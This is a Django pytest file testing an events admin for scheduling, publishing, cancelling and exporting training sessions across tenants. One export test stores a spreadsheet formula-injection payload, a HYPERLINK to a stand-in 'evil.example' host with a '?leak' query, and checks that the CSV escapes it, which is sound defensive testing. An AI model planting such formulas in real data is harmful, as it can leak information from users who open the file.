"""The delivery partner's staff schedule, publish, cancel and export sessions in the
admin; every write goes through events.services (now is 1 October 2026)."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from events.factories import BookingFactory, CatchUpFactory, SessionFactory, london
from events.models import Booking, DeliveryWindow, Session
from schools.models import Role

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:events_session_changelist"


def change_url(session):
    return reverse("admin:events_session_change", args=[session.pk])


def session_data(session, **changes):
    """The change form as a browser posts it (dates and times in UK time)."""
    data = {
        "event": session.event_id,
        "starts_at_0": "2026-11-04", "starts_at_1": "16:00",
        "ends_at_0": "2026-11-04", "ends_at_1": "17:30",
        "mode": session.mode, "venue": session.venue, "online_link": session.online_link,
        "capacity": session.capacity, "facilitators": [u.pk for u in session.facilitators.all()],
        "local_group": "", "changes_close_hours": session.changes_close_hours, "catch_up_url": "",
        "bookings-TOTAL_FORMS": "0", "bookings-INITIAL_FORMS": "0",
    }
    data.update(changes)
    return data


def export(client, pks):
    response = client.post(reverse(CHANGELIST), {"action": "export_bookings_csv", "_selected_action": pks})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


# --- The session list ---------------------------------------------------------------------------


def test_staff_see_only_their_tenants_sessions_with_counts(world, events, client_for):
    BookingFactory(tenant=world.tenant_a, session=events.clinic_session, user=world.user(Role.ECT),
                   school=world.school_a1)
    BookingFactory(tenant=world.tenant_a, session=events.clinic_session, status=Booking.Status.WAITING)
    BookingFactory(tenant=world.tenant_a, session=events.clinic_session, status=Booking.Status.CANCELLED)
    client = client_for(world.user(Role.DP_STAFF))

    response = client.get(reverse(CHANGELIST))

    assert response.status_code == 200
    shown = {s.pk for s in response.context["cl"].result_list}
    assert shown == {events.clinic_session.pk, events.conference_session.pk, events.draft_session.pk}
    row = next(s for s in response.context["cl"].result_list if s.pk == events.clinic_session.pk)
    assert (row.booked_count, row.waiting_count) == (1, 1)
    page = response.content.decode()
    assert "1 / 30" in page and "Wed 4 Nov 2026, 16:00" in page
    assert reverse("admin:events_session_bulk_create") in page
    assert reverse("events:register", args=[events.clinic_session.pk]) in page


def test_the_session_list_makes_the_same_queries_however_many_sessions(world, events, client_for):
    client = client_for(world.user(Role.DP_STAFF))
    client.get(reverse(CHANGELIST))  # warm: the session and the admin's first reads

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse(CHANGELIST)).status_code == 200
        return len(captured)

    before = queries()
    for day in (6, 9, 10, 12, 13):
        session = SessionFactory(tenant=world.tenant_a, event=events.clinic, starts_at=london(2026, 11, day, 16))
        BookingFactory.create_batch(2, tenant=world.tenant_a, session=session)
    assert queries() == before


def test_another_tenants_session_answers_404(world, events, client_for):
    client = client_for(world.user(Role.DP_ADMIN))
    other = events.other_tenant_session
    assert client.get(change_url(other)).status_code == 404
    assert client.post(change_url(other), session_data(other, capacity=5)).status_code == 404
    other.refresh_from_db()
    assert other.capacity == 30


# --- The change form ----------------------------------------------------------------------------


def test_a_date_outside_the_window_is_refused_beside_the_field_and_nothing_is_written(world, events, client_for):
    session = events.clinic_session
    client = client_for(world.user(Role.DP_STAFF))

    response = client.post(change_url(session), session_data(
        session, starts_at_0="2026-08-20", ends_at_0="2026-08-20", capacity=40,
    ))

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert errors["starts_at"] == [
        "Clinic 1: High expectations must run between 1 September 2026 and 23 July 2027 (the lead provider's "
        "delivery window): 20 August 2026 is outside it."
    ]
    assert list(errors) == ["starts_at"]
    session.refresh_from_db()
    assert (session.starts_at, session.capacity, session.sequence) == (london(2026, 11, 4, 16), 30, 0)
    assert session.history.count() == 1  # only its creation


def test_end_before_start_and_capacity_below_bookings_are_refused_beside_their_fields(world, events, client_for):
    session = events.clinic_session
    BookingFactory.create_batch(3, tenant=world.tenant_a, session=session)
    client = client_for(world.user(Role.DP_STAFF))

    ends_early = client.post(change_url(session), session_data(session, ends_at_1="15:00"))
    too_small = client.post(change_url(session), session_data(session, capacity=2))

    assert "before or when it starts" in ends_early.context["adminform"].form.errors["ends_at"][0]
    assert too_small.context["adminform"].form.errors["capacity"] == [
        "3 people are already booked on this session: the capacity cannot be less than 3. "
        "Move some of them to another session first."
    ]
    session.refresh_from_db()
    assert (session.ends_at, session.capacity) == (london(2026, 11, 4, 17, 30), 30)


def test_a_change_is_saved_through_the_service(world, events, client_for):
    session = events.clinic_session
    client = client_for(world.user(Role.DP_STAFF))

    response = client.post(change_url(session), session_data(session, starts_at_1="15:30", capacity=45))

    assert response.status_code == 302, response.context["adminform"].form.errors
    session.refresh_from_db()
    assert (session.starts_at, session.capacity) == (london(2026, 11, 4, 15, 30), 45)
    assert session.sequence == 1  # moved: the calendar revision goes up
    assert list(session.facilitators.all()) == [world.user(Role.FACILITATOR)]


def test_staff_add_a_draft_session_with_a_facilitator(world, events, client_for):
    client = client_for(world.user(Role.DP_STAFF))
    data = session_data(events.conference_session, starts_at_0="2026-10-14", starts_at_1="09:00",
                        ends_at_0="2026-10-14", ends_at_1="15:30", capacity=60, venue="Town Hall, Northgate",
                        facilitators=[world.user(Role.FACILITATOR).pk, world.user(Role.DP_STAFF).pk])
    for key in ("bookings-TOTAL_FORMS", "bookings-INITIAL_FORMS"):
        del data[key]  # no bookings on the add page

    response = client.post(reverse("admin:events_session_add"), data)

    assert response.status_code == 302, response.context["adminform"].form.errors
    session = Session.objects.get(tenant=world.tenant_a, starts_at=london(2026, 10, 14, 9))
    assert (session.status, session.academic_year, session.venue) == (Session.Status.DRAFT, 2026, "Town Hall, Northgate")
    assert set(session.facilitators.all()) == {world.user(Role.FACILITATOR), world.user(Role.DP_STAFF)}


def test_facilitators_are_limited_to_the_tenants_facilitators_and_staff(world, events, client_for):
    client = client_for(world.user(Role.DP_STAFF))

    form = client.get(change_url(events.clinic_session)).context["adminform"].form
    offered = set(form.fields["facilitators"].queryset)
    assert {world.user(Role.FACILITATOR), world.user(Role.DP_STAFF), world.user(Role.DP_ADMIN)} <= offered
    assert world.user(Role.ECT) not in offered and world.outsiders[Role.FACILITATOR] not in offered

    response = client.post(change_url(events.clinic_session), session_data(
        events.clinic_session, facilitators=[world.outsiders[Role.FACILITATOR].pk],
    ))
    assert "facilitators" in response.context["adminform"].form.errors
    assert list(events.clinic_session.facilitators.all()) == [world.user(Role.FACILITATOR)]


def test_the_change_form_shows_bookings_the_window_and_the_register_link(world, events, client_for):
    BookingFactory(tenant=world.tenant_a, session=events.conference_session, user=world.user(Role.MENTOR),
                   school=world.school_a1, dietary_needs="Vegan")
    client = client_for(world.user(Role.DP_STAFF))

    page = client.get(change_url(events.conference_session)).content.decode()

    assert world.user(Role.MENTOR).email in page and "Vegan" in page
    assert "1 September 2026 to 23 July 2027" in page
    assert reverse("events:register", args=[events.conference_session.pk]) in page


# --- Bulk-create ---------------------------------------------------------------------------------


def test_bulk_create_makes_drafts_for_each_event_of_the_programme_year(world, events, client_for):
    client = client_for(world.user(Role.DP_STAFF))
    url = reverse("admin:events_session_bulk_create")
    form = client.get(url).context["form"]
    assert set(form.fields["programme"].queryset) == {world.programme, world.mentor_module.programme}
    before = set(Session.objects.values_list("pk", flat=True))

    response = client.post(url, {"programme": world.programme.pk, "programme_year": 1, "academic_year": 2026,
                                 "copies": 2}, follow=True)

    made = Session.objects.exclude(pk__in=before)
    assert made.count() == 2
    assert {(s.tenant_id, s.event_id, s.status) for s in made} == {
        (world.tenant_a.pk, events.clinic.pk, Session.Status.DRAFT)
    }
    assert response.redirect_chain[-1][0] == reverse(CHANGELIST) + "?status__exact=draft&academic_year__exact=2026"
    message = str(list(response.context["messages"])[0])
    assert message.startswith("Made 2 draft sessions of World programme year 1 for 2026 to 2027")
    assert 'href="' + reverse(CHANGELIST) + "?status__exact=draft&amp;academic_year__exact=2026" in message


def test_bulk_create_shows_the_services_refusal_beside_the_field(world, events, client_for):
    client = client_for(world.user(Role.DP_STAFF))
    url = reverse("admin:events_session_bulk_create")
    before = Session.objects.count()

    no_events = client.post(url, {"programme": world.programme.pk, "programme_year": 2, "academic_year": 2026,
                                  "copies": 1})
    no_window = client.post(url, {"programme": world.programme.pk, "programme_year": 1, "academic_year": 2027,
                                  "copies": 1})
    too_many = client.post(url, {"programme": world.programme.pk, "programme_year": 1, "academic_year": 2026,
                                 "copies": 50})

    assert no_events.context["form"].errors["programme_year"] == [
        "World programme has no conferences or clinics in year 2."
    ]
    assert "no sessions were made" in no_window.context["form"].errors["academic_year"][0]
    assert too_many.context["form"].errors["copies"] == ["Make between 1 and 20 sessions of each event."]
    assert Session.objects.count() == before


def test_bulk_create_offers_no_other_tenants_programme(world, events, client_for):
    from programme.factories import ProgrammeFactory

    elsewhere = ProgrammeFactory(slug="only-in-b")
    client = client_for(world.user(Role.DP_STAFF))
    response = client.post(reverse("admin:events_session_bulk_create"),
                           {"programme": elsewhere.pk, "programme_year": 1, "academic_year": 2026, "copies": 1})
    assert "programme" in response.context["form"].errors


# --- Actions --------------------------------------------------------------------------------------


def test_publish_action_opens_drafts_to_booking(world, events, client_for):
    client = client_for(world.user(Role.DP_STAFF))

    response = client.post(reverse(CHANGELIST), {
        "action": "publish_sessions",
        "_selected_action": [events.draft_session.pk, events.other_tenant_session.pk],
    }, follow=True)

    events.draft_session.refresh_from_db()
    assert events.draft_session.status == Session.Status.PUBLISHED
    assert "Published 1 session" in str(list(response.context["messages"])[0])


def test_publish_action_reports_a_refusal(world, events, client_for):
    past = SessionFactory(tenant=world.tenant_a, event=events.clinic, starts_at=london(2026, 9, 16, 16),
                          status=Session.Status.DRAFT)
    client = client_for(world.user(Role.DP_STAFF))

    response = client.post(reverse(CHANGELIST), {"action": "publish_sessions", "_selected_action": [past.pk]},
                           follow=True)

    past.refresh_from_db()
    assert past.status == Session.Status.DRAFT
    assert "already started" in str(list(response.context["messages"])[0])


def test_cancel_action_asks_first_then_cancels_and_tells_the_people_booked(
    world, events, client_for, mailoutbox, django_capture_on_commit_callbacks
):
    booking = BookingFactory(tenant=world.tenant_a, session=events.clinic_session, user=world.user(Role.ECT),
                             school=world.school_a1)
    client = client_for(world.user(Role.DP_STAFF))
    data = {"action": "cancel_sessions", "_selected_action": [events.clinic_session.pk]}

    asked = client.post(reverse(CHANGELIST), data)
    assert asked.status_code == 200 and "cannot be undone" in asked.content.decode()
    events.clinic_session.refresh_from_db()
    assert events.clinic_session.status == Session.Status.PUBLISHED

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse(CHANGELIST), {**data, "confirm": "yes"})
    events.clinic_session.refresh_from_db()
    booking.refresh_from_db()
    assert events.clinic_session.status == Session.Status.CANCELLED
    assert booking.status == Booking.Status.CANCELLED
    assert [m.to for m in mailoutbox] == [[world.user(Role.ECT).email]]
    # A cancelled session is kept as a record: read-only.
    assert client.get(change_url(events.clinic_session)).context["has_change_permission"] is False


def test_export_has_one_row_per_active_booking_with_needs_escaped(world, events, client_for):
    conference = events.conference_session
    BookingFactory(tenant=world.tenant_a, session=conference, user=world.user(Role.MENTOR), school=world.school_a1,
                   dietary_needs='=HYPERLINK("http://evil.example/?leak","Click")', access_needs="Step-free access")
    BookingFactory(tenant=world.tenant_a, session=conference, user__full_name="Wendy Waiting",
                   status=Booking.Status.WAITING, access_needs="+44 hearing loop")
    BookingFactory(tenant=world.tenant_a, session=conference, status=Booking.Status.CANCELLED)
    BookingFactory(tenant=world.tenant_a, session=events.clinic_session, user=world.user(Role.ECT),
                   school=world.school_a1, attendance="")
    BookingFactory(tenant=world.tenant_b, session=events.other_tenant_session, user=world.outsiders[Role.ECT])
    client = client_for(world.user(Role.DP_ADMIN))

    rows = export(client, [conference.pk, events.clinic_session.pk, events.other_tenant_session.pk])

    assert rows[0] == ["event", "session_start", "mode", "venue", "participant", "email", "role", "school", "status",
                       "dietary_needs", "access_needs", "attendance"]
    assert len(rows) == 4  # the header and three active bookings: none cancelled, none of tenant B
    clinic, mentor, waiting = rows[1:]
    assert clinic[:8] == ["Clinic 1: High expectations", "2026-11-04 16:00", "Online", "Online",
                          world.user(Role.ECT).full_name, world.user(Role.ECT).email, "ECT", "Alder Primary"]
    assert mentor[1:4] == ["2026-11-11 09:00", "Face to face", "Northgate Conference Centre, 1 Market Street"]
    assert mentor[5:] == [world.user(Role.MENTOR).email, "Mentor", "Alder Primary", "Booked",
                          '\'=HYPERLINK("http://evil.example/?leak","Click")', "Step-free access", ""]
    assert waiting[4] == "Wendy Waiting" and waiting[8] == "On the waiting list"
    assert waiting[10] == "'+44 hearing loop"


# --- Bookings, catch-ups, windows ---------------------------------------------------------------------


def test_staff_cancel_a_booking_from_the_bookings_list(world, events, client_for):
    booking = BookingFactory(tenant=world.tenant_a, session=events.clinic_session, user=world.user(Role.ECT),
                             school=world.school_a1)
    waiting = BookingFactory(tenant=world.tenant_a, session=events.clinic_session, status=Booking.Status.WAITING)
    events.clinic_session.capacity = 1
    events.clinic_session.save()
    client = client_for(world.user(Role.DP_STAFF))
    url = reverse("admin:events_booking_changelist")
    assert {b.pk for b in client.get(url).context["cl"].result_list} == {booking.pk, waiting.pk}

    client.post(url, {"action": "cancel_bookings", "_selected_action": [booking.pk]})

    booking.refresh_from_db()
    waiting.refresh_from_db()
    assert booking.status == Booking.Status.CANCELLED and booking.cancelled_by == world.user(Role.DP_STAFF)
    assert waiting.status == Booking.Status.BOOKED  # the freed place went to the waiting list
    assert client.get(reverse("admin:events_booking_add")).status_code == 403


def test_catch_ups_are_listed_read_only(world, events, client_for):
    catch_up = CatchUpFactory(tenant=world.tenant_a, booking__session=events.clinic_session)
    client = client_for(world.user(Role.DP_STAFF))
    response = client.get(reverse("admin:events_catchup_changelist"))
    assert [c.pk for c in response.context["cl"].result_list] == [catch_up.pk]
    assert client.get(reverse("admin:events_catchup_change", args=[catch_up.pk])).context[
        "has_change_permission"] is False


def test_staff_read_the_delivery_windows_but_only_platform_staff_edit_them(world, events, client_for):
    client = client_for(world.user(Role.DP_STAFF))
    page = client.get(reverse("admin:events_session_delivery_windows"), {"year": 2026})
    assert page.status_code == 200
    assert {w.event_id for w in page.context["windows"]} == {events.clinic.pk, events.conference.pk}
    assert "1 September 2026" in page.content.decode()
    window = DeliveryWindow.objects.get(event=events.clinic, academic_year=2026)
    assert client.get(reverse("admin:events_deliverywindow_change", args=[window.pk])).status_code == 403


def test_calendar_feeds_are_not_in_the_admin():
    from django.contrib import admin

    from events.models import CalendarFeed

    assert CalendarFeed not in admin.site._registry
